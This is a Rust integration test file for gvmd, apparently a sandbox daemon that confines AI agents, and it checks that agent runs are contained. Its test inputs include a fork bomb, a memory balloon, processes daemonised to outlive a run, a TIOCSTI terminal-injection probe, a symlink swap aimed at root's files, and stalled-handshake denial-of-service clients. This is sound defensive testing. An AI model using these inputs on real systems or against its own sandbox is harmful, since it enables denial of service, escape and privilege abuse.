    assert_eq!(std::fs::read_to_string(upper.join("code.py")).unwrap(), "changed\n");
    assert_eq!(std::fs::read_to_string(upper.join("new.txt")).unwrap(), "new\n");
    let summary = ran.summary();
    assert!(
        summary.contains("; 2 files changed, 2 to review (gvmctl changes"),
        "the summary counts the changed files: {summary}"
    );
    // A second run sees the first one's work: the upper dir persists.
    let ran = sb.sh("cat new.txt");
    assert_eq!(ran.out, "new\n");
}

#[test]
#[ignore = "needs root"]
fn a_run_that_changes_nothing_reports_no_changed_files() {
    assert_root();
    let mut sb = Sandboxed::new("cnt");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    // Start at the beginning of a wall-clock second, so both runs fall in it.
    let since_epoch = || std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap();
    while since_epoch().subsec_millis() > 100 {
        std::thread::sleep(Duration::from_millis(5));
    }
    let ran = sb.sh("echo a > a.txt; echo b > b.txt");
    assert!(ran.summary().contains("; 2 files changed, 2 to review (gvmctl changes"), "{}", ran.summary());
    let ran = sb.sh("cat a.txt b.txt");
    assert_eq!(ran.out, "a\nb\n");
    // Nothing new; the first run's files still wait for review.
    assert!(
        ran.summary().ends_with(&format!("; 0 files changed, 2 to review (gvmctl changes {})", sb.profile)),
        "the second run changed nothing: {}",
        ran.summary()
    );
}

#[test]
#[ignore = "needs root"]
fn sigkill_of_the_agent_mid_write_keeps_the_work() {
    assert_root();
    let mut sb = Sandboxed::new("kill");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let ran = sb.run(&["true"]);
    assert_eq!(ran.code, Some(0));
    let upper = sb.upper();
    let user = format!("gvm-{}", sb.profile);
    let mut child = gvmctl_cmd(
        &sb.dirs,
        &[
            "run",
            "--profile",
            &sb.profile,
            "--",
            "sh",
            "-c",
            "i=0; while :; do echo line$i >> log.txt; i=$((i+1)); done",
        ],
    )
    .stdout(std::process::Stdio::null())
    .stderr(std::process::Stdio::piped())
    .spawn()
    .unwrap();
    let log = upper.join("log.txt");
    wait_for(Duration::from_secs(20), "the agent's first 4 KiB", || {
        std::fs::metadata(&log).map(|m| m.len()).unwrap_or(0) >= 4096
    });
    // SIGKILL every process of the agent's user, one pid at a time (the sandbox's init
    // runs as that user too, so the whole pid namespace goes).
    let pids = stdout(&Command::new("pgrep").args(["-u", &user]).output().unwrap());
    assert!(!pids.trim().is_empty(), "no process of {user}");
    for pid in pids.split_whitespace() {
        let _ = Command::new("kill").args(["-9", pid]).status();
    }
    let status = wait_timeout(&mut child, Duration::from_secs(20));
    let Some(status) = status else {
        let _ = child.kill();
        panic!("gvmctl run did not end after its agent was killed");
    };
    let mut err = String::new();
    std::io::Read::read_to_string(child.stderr.as_mut().unwrap(), &mut err).unwrap();
    assert_eq!(status.code(), Some(137), "128 + SIGKILL: {err}");
    assert!(err.contains("exit 137") && err.contains("files changed"), "{err}");
    let kept = std::fs::read_to_string(&log).unwrap();
    assert!(kept.starts_with("line0\nline1\n") && kept.len() >= 4096, "{} bytes kept", kept.len());
    assert!(!sb.ws.join("log.txt").exists());
    wait_for(Duration::from_secs(5), "no process of the agent left", || {
        Command::new("pgrep").args(["-u", &user]).output().unwrap().stdout.is_empty()
    });
    let out = gvmctl(&sb.dirs, &["status"]);
    assert!(out.status.success(), "gvmd is healthy: {}", stderr(&out));
    // The profile can run again.
    let ran = sb.sh("wc -l < log.txt");
    assert_eq!(ran.code, Some(0), "{ran:#?}");
}

// ---------------------------------------------------------------------------------------
// 9. Fork bomb.
// ---------------------------------------------------------------------------------------

#[test]
#[ignore = "needs root"]
fn a_fork_bomb_is_stopped_by_tasks_max_and_gvmd_stays_healthy() {
    assert_root();
    let mut sb = Sandboxed::new("bomb");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "tasks_max = 32\nmemory_max = \"512M\"");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let bomb = "import os, errno, time\nn = 0\n\
        while True:\n    try:\n        pid = os.fork()\n    except OSError as e:\n        print('blocked', n, errno.errorcode[e.errno], flush=True); break\n\
        \x20   if pid == 0:\n        time.sleep(3); os._exit(0)\n    n += 1\n\
        os.system(':(){ :|:& };:'); print('shell bomb over', flush=True)\n";
    let started = Instant::now();
    let runner = {
        let dirs_socket = sb.dirs.socket();
        let profile = sb.profile.clone();
        let bomb = bomb.to_string();
        std::thread::spawn(move || {
            let mut c = Command::new(bin("gvmctl"));
            c.args(["run", "--profile", &profile, "--", "/usr/bin/python3", "-c", &bomb])
                .env("GVM_SOCKET", dirs_socket)
                .stdin(std::process::Stdio::null());
            output_within(c, Duration::from_secs(120))
        })
    };
    // gvmd answers while the bomb runs.
    while !runner.is_finished() {
        let out = gvmctl(&sb.dirs, &["status"]);
        assert!(out.status.success(), "gvmctl status during the bomb: {}", stderr(&out));
        std::thread::sleep(Duration::from_millis(200));
    }
    let ran = runner.join().unwrap();
    let took = started.elapsed();
    assert!(ran.out.starts_with("blocked") && ran.out.contains("EAGAIN"), "{ran:#?}");
    let n: u64 = ran.out.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert!(n < 32, "{n} forks succeeded");
    assert!(ran.summary().starts_with(&format!("gvm: {}: exit ", sb.profile)), "{ran:#?}");
    let out = gvmctl(&sb.dirs, &["status"]);
    assert!(out.status.success(), "gvmd is healthy after the bomb: {}", stderr(&out));
    eprintln!("fork bomb contained in {took:?}: {}", ran.summary());
}

#[test]
#[ignore = "needs root"]
fn a_memory_balloon_is_stopped_by_memory_max() {
    assert_root();
    let mut sb = Sandboxed::new("mem");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "memory_max = \"64M\"");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let ran = sb.py(
        "b = []\nfor i in range(64):\n    b.append(bytearray(16 << 20))\n    print(i, flush=True)\nprint('BALLOON OK')",
    );
    assert!(!ran.out.contains("BALLOON OK"), "1 GiB allocated under memory_max = 64M: {ran:#?}");
    assert!(matches!(ran.code, Some(137) | Some(1)), "OOM-killed (137) or MemoryError (1): {ran:#?}");
    let out = gvmctl(&sb.dirs, &["status"]);
    assert!(out.status.success(), "gvmd is healthy: {}", stderr(&out));
    let ran = sb.run(&["true"]);
    assert_eq!(ran.code, Some(0), "the profile runs again: {ran:#?}");
}

#[test]
#[ignore = "needs root"]
fn no_agent_process_outlives_its_run() {
    assert_root();
    let mut sb = Sandboxed::new("bg");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    // Daemonised three ways: background job, nohup, double fork + new session.
    let ran = sb.sh(
        "sleep 300 & nohup sleep 301 >/dev/null 2>&1 & \
         python3 -c 'import os,time\nif os.fork()==0:\n os.setsid()\n if os.fork()==0:\n  time.sleep(302)\n os._exit(0)' ; \
         echo started",
    );
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    assert_eq!(ran.out, "started\n");
    let user = format!("gvm-{}", sb.profile);
    wait_for(Duration::from_secs(5), "every process of the agent to be gone", || {
        Command::new("pgrep").args(["-u", &user]).output().unwrap().stdout.is_empty()
    });
}

/// `gvmctl run` hands the agent the caller's terminal: the agent must not be able to
/// type into it (TIOCSTI, bubblewrap CVE-2017-5226) nor make it its controlling tty.
#[test]
#[ignore = "needs root"]
fn the_callers_terminal_cannot_be_typed_into() {
    assert_root();
    let mut sb = Sandboxed::new("tty");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let pty = nix::pty::openpty(None, None).unwrap();
    let probe = "import fcntl, termios, errno, os\n\
        for name, req, arg in [('TIOCSTI', termios.TIOCSTI, b'x'), ('TIOCLINUX', 0x541C, b'\\x06')]:\n\
        \x20   try:\n        fcntl.ioctl(0, req, arg); print(name, 'ok')\n\
        \x20   except OSError as e:\n        print(name, errno.errorcode[e.errno])\n\
        try:\n    os.open('/dev/tty', os.O_RDWR); print('ctty ok')\n\
        except OSError as e:\n    print('ctty', errno.errorcode[e.errno])\n\
        print('isatty', os.isatty(0), 'sid', os.getsid(0) == os.getpid())\n";
    let mut c = gvmctl_cmd(&sb.dirs, &["run", "--profile", &sb.profile, "--", "/usr/bin/python3", "-c", probe]);
    c.stdin(std::process::Stdio::from(pty.slave.try_clone().unwrap()));
    let ran = output_within(c, Duration::from_secs(60));
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    assert!(ran.out.contains("TIOCSTI EPERM") && ran.out.contains("TIOCLINUX EPERM"), "{ran:#?}");
    assert!(ran.out.contains("ctty ENXIO") && ran.out.contains("isatty True"), "{ran:#?}");
    // Nothing was pushed into the terminal's input queue.
    nix::fcntl::fcntl(&pty.slave, nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK)).unwrap();
    let mut buf = [0u8; 16];
    assert_eq!(nix::unistd::read(&pty.slave, &mut buf), Err(nix::errno::Errno::EAGAIN));
}

// ---------------------------------------------------------------------------------------
// 10. Exit status and summary.
// ---------------------------------------------------------------------------------------

#[test]
#[ignore = "needs root"]
fn exit_status_and_summary_counts_are_exact() {
    assert_root();
    let mut sb = Sandboxed::new("exit");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let p = up.port();
    let ran = sb.sh(&format!(
        "curl -sS -o /dev/null http://api.test.example:{p}/ok/a; curl -sS -o /dev/null http://api.test.example:{p}/no; exit 7"
    ));
    assert_eq!(ran.code, Some(7), "{ran:#?}");
    let summary = ran.summary();
    let prefix = format!("gvm: {}: exit 7 in ", sb.profile);
    assert!(summary.starts_with(&prefix), "{summary}");
    assert!(summary.ends_with(" s; 1 requests allowed, 1 denied; 0 files changed"), "{summary}");
    let finished = sb.events("run_finished");
    assert_eq!(finished.len(), 1, "{finished:#?}");
    assert_eq!(finished[0]["details"]["exit_code"], 7);
    assert_eq!(finished[0]["details"]["allowed"], 1);
    assert_eq!(finished[0]["details"]["denied"], 1);
    // A signal-killed command: 128 + n, as a shell reports it.
    let ran = sb.sh("kill -TERM $$");
    assert_eq!(ran.code, Some(143), "{ran:#?}");
    assert!(ran.summary().contains("exit 143"), "{}", ran.summary());
    let ran = sb.run(&["/nonexistent/cmd"]);
    assert_ne!(ran.code, Some(0), "{ran:#?}");
}

// ---------------------------------------------------------------------------------------
// 11. The admin group.
// ---------------------------------------------------------------------------------------

fn run_as(user: &str, dirs: &Dirs, args: &[&str]) -> Ran {
    let mut c = Command::new("setpriv");
    c.args([&format!("--reuid={user}"), &format!("--regid={user}"), "--init-groups", "--"])
        .arg(bin("gvmctl"))
        .args(args)
        .env("GVM_SOCKET", dirs.socket())
        .env("HOME", "/")
        .current_dir("/")
        .stdin(std::process::Stdio::null());
    output_within(c, Duration::from_secs(120))
}

fn useradd(args: &[&str]) {
    for attempt in 0..60 {
        let o = Command::new("useradd").args(args).output().unwrap();
        if o.status.success() {
            return;
        }
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("lock") || err.contains("try again"), "useradd {args:?}: {err}");
        std::thread::sleep(Duration::from_millis(20 + attempt * 10));
    }
    panic!("useradd {args:?}: the user database stayed locked");
}

#[test]
#[ignore = "needs root"]
fn admin_group_members_may_run_and_others_are_refused() {
    assert_root();
    let mut sb = Sandboxed::new("adm");
    let pid = std::process::id();
    let (group, member, outsider) = (format!("gvmt-{pid}"), format!("gvmt-{pid}-m"), format!("gvmt-{pid}-o"));
    // Registered before creation: a failure half-way still removes what exists.
    sb.leftovers.users.extend([member.clone(), outsider.clone()]);
    sb.leftovers.groups.push(group.clone());
    let o = Command::new("groupadd").arg(&group).output().unwrap();
    assert!(o.status.success(), "groupadd: {}", String::from_utf8_lossy(&o.stderr));
    useradd(&["--no-create-home", "--user-group", "--shell", "/usr/sbin/nologin", "-G", &group, &member]);
    useradd(&["--no-create-home", "--user-group", "--shell", "/usr/sbin/nologin", &outsider]);
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&format!("[control]\nadmin_group = \"{group}\"\n\n{}", gvmd_toml(None)), &profile, &[]);

    let ran = run_as(&member, &sb.dirs, &["status"]);
    assert_eq!(ran.code, Some(0), "a member may use gvmctl: {ran:#?}");
    let ran = run_as(&member, &sb.dirs, &["run", "--profile", &sb.profile, "--", "sh", "-c", "id -un; exit 3"]);
    assert_eq!(ran.code, Some(3), "{ran:#?}");
    assert_eq!(ran.out, format!("gvm-{}\n", sb.profile), "the command runs as the profile's user");
    let started = sb.events("run_started");
    let uid = nix::unistd::User::from_name(&member).unwrap().unwrap().uid.as_raw();
    assert_eq!(started.last().unwrap()["details"]["by_uid"], uid, "{started:#?}");

    for args in [&["status"][..], &["run", "--profile", &sb.profile, "--", "id"][..]] {
        let ran = run_as(&outsider, &sb.dirs, args);
        assert_eq!(ran.code, Some(1), "an outsider is refused: {ran:#?}");
        assert!(ran.err.contains("permission denied"), "{ran:#?}");
        assert!(ran.out.is_empty(), "{ran:#?}");
    }
    assert_eq!(sb.events("run_started").len(), 1, "the outsider's run never started");
}

/// gvm-admin is not root: a member's ephemeral run may add an overlay workspace only of
/// its own, and gvmd diffs and applies it only while the directory at that path is still
/// the member's — swapped for a link to root's directory after the run, nothing of
/// root's is shown or written.
#[test]
#[ignore = "needs root"]
fn an_admin_members_ephemeral_workspace_must_be_its_own() {
    use std::os::unix::fs::MetadataExt;
    assert_root();
    let mut sb = Sandboxed::new("own");
    let pid = std::process::id();
    let (group, member) = (format!("gvmo-{pid}"), format!("gvmo-{pid}-m"));
    sb.leftovers.users.push(member.clone());
    sb.leftovers.groups.push(group.clone());
    let o = Command::new("groupadd").arg(&group).output().unwrap();
    assert!(o.status.success(), "groupadd: {}", String::from_utf8_lossy(&o.stderr));
    useradd(&["--no-create-home", "--user-group", "--shell", "/usr/sbin/nologin", "-G", &group, &member]);
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&format!("[control]\nadmin_group = \"{group}\"\n\n{}", gvmd_toml(None)), &profile, &[]);
    let user = nix::unistd::User::from_name(&member).unwrap().unwrap();

    let (roots, mine) = (sb.dirs.root.path().join("roots"), sb.dirs.root.path().join("mine"));
    for d in [&roots, &mine] {
        std::fs::create_dir(d).unwrap();
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o777)).unwrap();
        std::fs::write(d.join("f"), format!("{} before\n", d.display())).unwrap();
        std::fs::set_permissions(d.join("f"), std::fs::Permissions::from_mode(0o666)).unwrap();
    }
    nix::unistd::chown(&mine, Some(user.uid), Some(user.gid)).unwrap();
    let (roots_s, mine_s) = (roots.display().to_string(), mine.display().to_string());
    // An ephemeral run of the member's, with DIR as an overlay workspace it writes f in.
    let run_on = |dir: &str| {
        let (ws, script) = (format!("{dir}:overlay"), format!("echo written > {dir}/f"));
        let args = ["run", "--profile", &sb.profile, "--ephemeral", "--workspace", &ws, "--", "sh", "-c", &script];
        run_as(&member, &sb.dirs, &args)
    };

    let ran = run_on(&roots_s);
    assert_ne!(ran.code, Some(0), "{ran:#?}");
    assert!(ran.err.contains(&format!("belongs to uid 0, not to you (uid {})", user.uid)), "{ran:#?}");
    assert!(ran.err.contains(":ro"), "the fix is named: {ran:#?}");

    let ran = run_on(&mine_s);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let summary = ran.summary().to_string();
    let id = summary.split(" run ").nth(1).and_then(|r| r.split(':').next()).unwrap_or_else(|| panic!("{ran:#?}"));
    assert_eq!(std::fs::read_to_string(mine.join("f")).unwrap(), format!("{mine_s} before\n"), "kept for review");

    // The member swaps its directory for a link to root's: no diff, no apply reaches it.
    let f = format!("{mine_s}/f");
    let moved = sb.dirs.root.path().join("mine.moved");
    std::fs::rename(&mine, &moved).unwrap();
    std::os::unix::fs::symlink(&roots, &mine).unwrap();
    for verb in [&["diff", "--run", id][..], &["apply", "--run", id, &f][..]] {
        let ran = run_as(&member, &sb.dirs, verb);
        assert_ne!(ran.code, Some(0), "{verb:?}: {ran:#?}");
        assert!(ran.err.contains(&format!("a workspace uid {} chose", user.uid)), "{verb:?}: {ran:#?}");
        assert!(!ran.out.contains("before"), "{verb:?} showed root's file: {ran:#?}");
    }
    assert_eq!(std::fs::read_to_string(roots.join("f")).unwrap(), format!("{roots_s} before\n"));
    assert_eq!(std::fs::metadata(&roots).unwrap().uid(), 0);

    std::fs::remove_file(&mine).unwrap();
    std::fs::rename(&moved, &mine).unwrap();
    let ran = run_as(&member, &sb.dirs, &["apply", "--run", id, &f]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    assert_eq!(std::fs::read_to_string(mine.join("f")).unwrap(), "written\n", "its own directory: applied");
}

// ---------------------------------------------------------------------------------------
// Availability: stalled handshakes on the gateway's listeners (docs/attacks.md class 17).
// ---------------------------------------------------------------------------------------

/// Every listener of the gateway gives a client 30 s (`NAME_WAIT`, hyper's header
/// timeout) to say who it wants; one that stalls is cut off. Otherwise one agent holds
/// any number of gvmd's descriptors (the agent inherits a NOFILE limit as high as
/// gvmd's own: 16384 under gvmd.service) and starves every other profile and the
/// control socket.
#[test]
#[ignore = "needs root"]
fn stalled_clients_are_cut_off_by_the_gateway() {
    assert_root();
    let mut sb = Sandboxed::new("slow");
    let up = Upstream::start(None);
    let profile = profile_toml(&sb, up.port(), None, "");
    sb.start(&gvmd_toml(None), &profile, &[]);
    let body = r#"
import time
def connect_then_silence():
    s = conn(("127.0.0.1", 3128))
    s.sendall(b"CONNECT api.test.example:%d HTTP/1.1\r\nHost: api.test.example:%d\r\n\r\n" % (PORT, PORT))
    head = s.recv(4096)
    assert head.startswith(b"HTTP/1.1 200"), head
    return s
stalls = {
    "tls_partial_hello": (("10.99.0.1", 443), b"\x16\x03\x01\x02\x00\x01"),
    "http_partial_headers": (("10.99.0.1", 80), b"GET / HTTP/1.1\r\nHost: api.test.exa"),
    "proxy_partial_headers": (("127.0.0.1", 3128), b"GET http://api.test.example/ HTTP/1.1\r\nHo"),
    "silent": (("10.99.0.1", 8443), b""),
}
socks = {"connect_then_silence": connect_then_silence()}
for name, (addr, data) in stalls.items():
    s = conn(addr, timeout=5)
    if data:
        s.sendall(data)
    socks[name] = s
start = time.time()
closed = {}
while len(closed) < len(socks) and time.time() - start < 45:
    for name, s in socks.items():
        if name in closed:
            continue
        s.settimeout(0.2)
        try:
            d = s.recv(4096)
            closed[name] = "closed after %.0f s (%d bytes)" % (time.time() - start, len(d))
        except socket.timeout:
            pass
        except OSError as e:
            closed[name] = "reset after %.0f s" % (time.time() - start)
for name in socks:
    print("@@" + name)
    print(closed.get(name, "STILL OPEN after %.0f s" % (time.time() - start)))
"#
    .replace("PORT", &up.port().to_string());
    let ran = sb.py(&py(&body));
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let open: Vec<String> = sections(&ran.out)
        .into_iter()
        .filter(|(_, text)| text.contains("STILL OPEN"))
        .map(|(name, text)| format!("{name}: {}", text.trim()))
        .collect();
    assert!(open.is_empty(), "stalled connections gvmd still holds: {open:#?}\n{}", ran.out);
}
